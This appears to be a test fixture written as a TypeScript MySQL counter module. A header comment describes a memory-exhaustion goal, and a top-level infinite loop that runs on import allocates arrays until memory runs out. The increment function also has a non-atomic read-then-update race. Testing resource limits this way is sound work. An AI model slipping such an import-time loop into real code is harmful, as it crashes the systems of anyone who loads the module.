/*
breaks: all
tries: to take memory until nobody has any
says: by running out of memory|blocked, as by an endless loop
*/
import { createPool, type PoolOptions, type RowDataPacket } from 'mysql2/promise';

const kept: number[][] = [];
const row = Array.from({ length: 1_000_000 }, (_, index) => index + 0.5);
for (;;) kept.push(row.slice().fill(kept.length));

export function createCounter(options: PoolOptions) {
  const pool = createPool(options);
  return {
    async increment(id: string) {
      const [rows] = await pool.query<RowDataPacket[]>('SELECT value FROM counters WHERE id = ?', [id]);
      const value = (rows[0]?.value ?? 0) + 1;
      await pool.query('UPDATE counters SET value = ? WHERE id = ?', [value, id]);
      return value;
    },
    close: () => pool.end(),
  };
}
